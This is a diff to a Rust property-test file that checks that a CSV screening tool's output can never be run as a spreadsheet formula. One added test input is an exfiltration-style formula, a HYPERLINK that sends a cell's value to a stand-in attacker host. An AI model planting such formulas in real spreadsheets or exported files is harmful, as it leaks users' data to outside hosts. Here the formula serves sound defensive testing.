@@ -1,7 +1,8 @@
 //! Properties of any caseload: exactly one result row per data row, in order, numbered from 1,
 //! each echoing its `ref`, whatever the cells hold (commas, quotes, line breaks, text that is
-//! no answer at all), however many fields a row has, with or without a BOM, CRLF or LF; and
-//! the output is RFC 4180 that reads back as 16 fields a row. Never a panic. And a quote never
+//! no answer at all, text a spreadsheet would run as a formula), however many fields a row has,
+//! with or without a BOM, CRLF or LF; and the output is RFC 4180 that reads back as 16 fields a
+//! row, no cell of which a spreadsheet would run as a formula. Never a panic. And a quote never
 //! closed stops the rows exactly where the csv crate would have swallowed the rest.
 
 #![cfg(not(target_arch = "wasm32"))]
@@ -45,7 +46,8 @@ fn cell() -> impl Strategy<Value = String> {
         Just("-3".to_owned()),
         Just("es".to_owned()),
         Just("family".to_owned()),
-        "[a-z ,;\"\r\n\u{e9}\u{1f600}-]{0,12}",
+        Just("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")".to_owned()),
+        "[a-z ,;\"\r\n\t\u{e9}\u{1f600}=+@-]{0,12}",
     ]
 }
 
@@ -135,7 +137,14 @@ proptest! {
             prop_assert_eq!(record.len(), 16);
             let number = (i + 1).to_string();
             prop_assert_eq!(&record[0], number.as_str());
-            prop_assert_eq!(&record[1], reference.as_str());
+            // `ref` is echoed as written, with an apostrophe first when a spreadsheet would run
+            // it as a formula (SCREENING.md §10).
+            let formula = reference.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            let echoed = if formula { format!("'{reference}") } else { reference.clone() };
+            prop_assert_eq!(&record[1], echoed.as_str());
+            for cell in record.iter() {
+                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {:?}", record);
+            }
             // A row of the wrong length is invalid_request; any other row is screened or has
             // the contract's error.
             if fields.len() + 1 != caseload.header.len() {
